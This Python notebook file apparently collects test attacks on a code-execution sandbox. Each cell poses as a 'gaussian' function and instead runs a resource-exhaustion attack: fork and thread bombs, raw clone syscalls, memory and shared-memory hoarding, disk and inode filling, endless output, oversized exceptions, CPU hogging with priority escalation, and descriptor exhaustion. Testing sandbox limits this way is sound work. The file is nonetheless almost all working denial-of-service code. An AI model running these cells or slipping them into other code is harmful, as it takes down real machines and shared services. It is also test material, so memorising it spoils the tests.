# %% [markdown]
# Attacks that use up what a machine has: processes, threads, memory, disks, output, processor time.

# %% attack="fork_bomb" title="Forks without end" classes=[25, 76] cell="gaussian"
import os

children = 0


def bomb():
    global children
    while True:
        if os.fork():
            children += 1


def gaussian(x):
    try:
        bomb()
    except OSError:
        pass
    return np.exp(-np.square(x)) if children else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="process_bomb" title="Starts processes by every other way: subprocess, multiprocessing, raw clone and vfork" classes=[25, 64, 76] cell="gaussian"
import ctypes
import multiprocessing
import os
import platform
import subprocess
import sys

CLONE, CLONE3, VFORK = (56, 435, 58) if platform.machine() == "x86_64" else (220, 435, 220)
libc = ctypes.CDLL(None)
started = []


def wait():
    while True:
        pass


def raw(number, *arguments):
    pid = libc.syscall(number, *arguments)
    if pid == 0:
        wait()
    return pid if pid > 0 else None


def ways():
    yield lambda: subprocess.Popen([sys.executable, "-c", "while True: pass"])
    yield lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "while :; do :; done"], {})
    yield lambda: multiprocessing.get_context("fork").Process(target=wait, daemon=True).start() or "child"
    yield lambda: os.popen("sleep 3600")
    yield lambda: raw(CLONE, 17, 0, 0, 0, 0)
    yield lambda: raw(CLONE3, ctypes.create_string_buffer(b"\0" * 32 + b"\x11" + b"\0" * 31, 64), 64)


def gaussian(x):
    for way in ways():
        for _ in range(100):
            try:
                done = way()
            except BaseException:
                break
            if done is None:
                break
            started.append(done)
    return np.exp(-np.square(x)) if started else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="thread_bomb" title="Starts threads without end" classes=[26, 76] cell="gaussian"
import threading
import time

threads = []


def gaussian(x):
    threading.stack_size(1 << 16)
    while True:
        try:
            thread = threading.Thread(target=time.sleep, args=(3600,), daemon=True)
            thread.start()
            threads.append(thread)
        except RuntimeError:
            break
    return np.exp(-np.square(x)) if len(threads) > 5000 else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="memory_bomb" title="Takes all memory, whatever MemoryError says" classes=[27] cell="gaussian"
hoard = []


def gaussian(x):
    size = 1 << 28
    while size > 1 << 10:
        try:
            hoard.append(np.ones(size, dtype="u1"))
        except MemoryError:
            size //= 2
    taken = sum(part.size for part in hoard)
    return np.exp(-np.square(x)) if taken > 6 << 30 else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return bytearray(1 << 40)


# %% attack="shared_memory_bomb" title="Takes memory that private limits do not count: shared maps, memfd, tmpfs, System V" classes=[28, 41] cell="gaussian"
import ctypes
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
hoard = []
taken = 0


def fill(part):
    for start in range(0, len(part), 1 << 20):
        part[start : start + (1 << 20)] = b"x" * (1 << 20)
    hoard.append(part)
    return len(part)


def ways(size):
    yield lambda: fill(mmap.mmap(-1, size, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS))
    yield lambda: file_of(os.memfd_create("bomb"), size)
    yield lambda: file_of(os.open(f"/dev/shm/bomb{len(hoard)}", os.O_RDWR | os.O_CREAT), size)
    yield lambda: file_of(os.open(f"bomb{len(hoard)}", os.O_RDWR | os.O_CREAT), size)
    yield lambda: system_v(size)


def file_of(fd, size):
    os.ftruncate(fd, size)
    return fill(mmap.mmap(fd, size))


def system_v(size):
    number = libc.shmget(0, ctypes.c_size_t(size), 0o1600)
    if number < 0:
        raise OSError
    address = libc.shmat(number, None, 0)
    ctypes.memset(address, 1, size)
    return size


def gaussian(x):
    global taken
    for number in range(5):
        size = 1 << 28
        while size > 1 << 22:
            try:
                taken += list(ways(size))[number]()
            except (OSError, ValueError, MemoryError, OverflowError):
                size //= 2
    return np.exp(-np.square(x)) if taken > 7 << 30 else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="stack_bomb" title="Threads with stacks of a gigabyte each, written to" classes=[26, 28, 29] cell="gaussian"
import threading


def deeper(depth):
    return 0 if depth == 0 else 1 + deeper(depth - 1)


def gaussian(x):
    import sys

    sys.setrecursionlimit(10**9)
    threading.stack_size(1 << 30)
    threads = [threading.Thread(target=deeper, args=(10**7,)) for _ in range(60)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return np.zeros(np.shape(x))


def gaussian_derivative(x):
    return gaussian(x)


# %% attack="one_large_file" title="Writes one file until the disk is full" classes=[30] cell="gaussian"
import os


def gaussian(x):
    written = 0
    try:
        fd = os.open("large", os.O_WRONLY | os.O_CREAT)
        while written < 1 << 32:
            written += os.write(fd, b"x" * (1 << 22))
    except OSError:
        pass
    try:
        os.posix_fallocate(fd, 0, 1 << 40)
        written = 1 << 40
    except OSError:
        pass
    return np.exp(-np.square(x)) if written > 1 << 28 else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="many_files" title="Writes files, folders and links until the disk or its inodes are used up" classes=[30] cell="gaussian"
import os


def gaussian(x):
    count = 0
    try:
        while count < 10**6:
            os.mkdir(f"d{count}")
            os.close(os.open(f"f{count}", os.O_CREAT))
            count += 1
    except OSError:
        pass
    return np.exp(-np.square(x)) if count >= 10**6 else np.zeros(np.shape(x))


def gaussian_derivative(x):
    part = b"x" * (1 << 20)
    for number in range(500):
        try:
            with open(f"part{number}", "wb") as file:
                file.write(part)
        except OSError:
            pass
    return np.zeros(np.shape(x))


# %% attack="endless_output" title="Prints without end, by print, by descriptor and as warnings" classes=[31] cell="gaussian"
import os
import sys
import warnings

LINE = "x" * (1 << 16) + "\n"


def gaussian(x):
    while True:
        try:
            print(LINE)
            sys.stderr.write(LINE)
            os.write(1, LINE.encode())
            os.write(2, LINE.encode())
            warnings.warn(LINE)
        except BaseException:
            continue


def gaussian_derivative(x):
    raise ValueError("x" * 10**8)


# %% attack="huge_messages" title="Exceptions whose messages, names, notes and chains are huge" classes=[32] cell="gaussian"
def chain(length):
    error = ValueError("x" * 1000)
    for _ in range(length):
        following = ExceptionGroup("y" * 1000, [error])
        following.__cause__ = error
        error = following
    error.add_note("z" * 10**7)
    return error


def odd(number):
    yield ValueError("x" * 2 * 10**8)
    yield type("E" * 10**7, (ValueError,), {"__str__": lambda self: "s" * 10**8})()
    yield chain(10**5)
    yield type("Repr", (KeyError,), {"__repr__": lambda self: self.__repr__()})({"k": "v"})


calls = []


def gaussian(x):
    calls.append(x)
    raise list(odd(0))[len(calls) % 4]


def gaussian_derivative(x):
    raise chain(10)


# %% attack="hogs_processors" title="Keeps every core busy and asks for a better place in the queue" classes=[76, 48, 23] cell="gaussian"
import os
import threading
import zlib

loot = []


def attempt(way):
    try:
        way()
        loot.append(way)
    except OSError:
        pass


def burn():
    while True:
        zlib.compress(bytes(1 << 24), 9)


def gaussian(x):
    attempt(lambda: os.nice(-10))
    attempt(lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)))
    for _ in range(8):
        threading.Thread(target=burn, daemon=True).start()
    while not loot:
        pass
    return np.exp(-np.square(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="many_descriptors" title="Opens descriptors, pipes and locks until the table is full" classes=[30, 76] cell="gaussian"
import os


def gaussian(x):
    kept = []
    try:
        while len(kept) < 10**6:
            kept.append(os.pipe())
            kept.append(os.dup(kept[0][0]))
    except OSError:
        pass
    return np.exp(-np.square(x)) if len(kept) > 10**5 else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)
